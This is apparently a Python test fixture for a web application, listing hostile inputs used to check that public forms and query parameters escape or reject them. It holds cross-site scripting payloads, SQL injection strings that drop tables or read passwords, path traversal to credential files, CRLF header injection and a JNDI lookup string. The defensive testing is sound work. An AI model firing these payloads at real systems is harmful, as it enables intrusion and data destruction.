"""Hostile inputs for the public forms and query parameters, built in code.

Every XSS payload carries the marker `h5xss` and at least one character that HTML escaping changes
(< > " ' &), so "the raw payload appears in a page" means "it was rendered unescaped".
"""

XSS = [
    "<script>alert('h5xss')</script>",
    '"><img src=x onerror=alert("h5xss")>',
    "'><svg/onload=alert('h5xss')>",
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("h5xss")</script></svg>',
    "<iframe src=\"javascript:alert('h5xss')\"></iframe>",
    "javascript:alert('h5xss')//",
    "[klick](javascript:alert('h5xss'))",
    "<a href=\"javascript:alert('h5xss')\">h5xss</a>",
    "<body onload=alert('h5xss')>",
    "{{7*7}}{% debug %}<b>h5xss</b>",
    "<<SCRIPT>alert('h5xss');//<</SCRIPT>",
    '<img src="x" onerror="&#97;lert(\'h5xss\')">',
]
SQL = [
    "' OR 1=1--",
    '" OR ""="',
    "1; DROP TABLE network_inquiry;--",
    "'; DELETE FROM auth_user; --",
    "1 UNION SELECT username, password FROM auth_user--",
    "%' AND 1=0 UNION SELECT NULL--",
]
TRAVERSAL = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd\x00.png",
]
ODD = [
    "nul\x00byte",
    "\x00",
    "A" * 100_000,  # 100 kB
    "\u202eevil\u202c txt.exe",  # right-to-left override
    "😀👩‍👩‍👧‍👦🇨🇭 Grüezi ዓዲ مرحبا",
    "\ufffd\ufeff\u200b",  # replacement character, BOM, zero-width space
    "Name\r\nSet-Cookie: h5crlf=1",
    "x\r\nBcc: h5crlf@example.org",
    "%0d%0aSet-Cookie:%20h5crlf=1",
    "-1",
    "99999999999999999999999999999",
    "1e309",
    "NaN",
    "  ",
    "${jndi:ldap://example.org/a}",
    "\\",
    "@@@",
]
ALL = XSS + SQL + TRAVERSAL + ODD
# A smaller set for choice fields and query parameters of list pages, where every value is rejected the same
# way: enough to prove the parsing holds.
SHORT = [XSS[0], XSS[1], SQL[0], SQL[2], TRAVERSAL[0], TRAVERSAL[2], ODD[0], ODD[2], ODD[3], ODD[6], ODD[10]]

RAW_MARKERS = [p for p in XSS if any(c in p for c in "<>\"'&")]
# What a stored CRLF payload would look like had it reached a header.
CRLF_HEADER_MARKERS = ["h5crlf"]
